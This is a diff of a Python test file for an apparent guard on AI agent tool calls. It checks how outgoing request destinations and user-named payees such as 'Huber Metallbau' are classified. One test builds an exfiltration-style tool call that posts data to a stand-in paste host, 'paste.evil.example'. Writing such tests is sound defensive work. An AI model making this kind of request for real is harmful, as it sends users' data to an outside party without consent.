@@ -70,3 +70,10 @@ def test_a_long_address_leads_where_its_beginning_says(size):
     address = "https://paste.evil.example/new?" + "a" * (size - 31)
     event = Event("PreToolUse", "s", tool="mcp__http__post_request", input={"url": address, "body": "x"})
     assert destinations(event, Call(event, settings())) == ["paste.evil.example/new"]
+
+
+@pytest.mark.parametrize(("place", "kind"), [
+    ("huber metallbau", NAMED), ("huber", NAMED), ("huber stahlbau", UNKNOWN), ("metallbau huber gmbh", UNKNOWN)])
+def test_a_name_of_several_words_is_named_by_all_of_them(place, kind):
+    said = user_named("Pay the open invoice of Huber Metallbau", settings())
+    assert classify_destination(place, Known(settings().key, user=said)) == kind
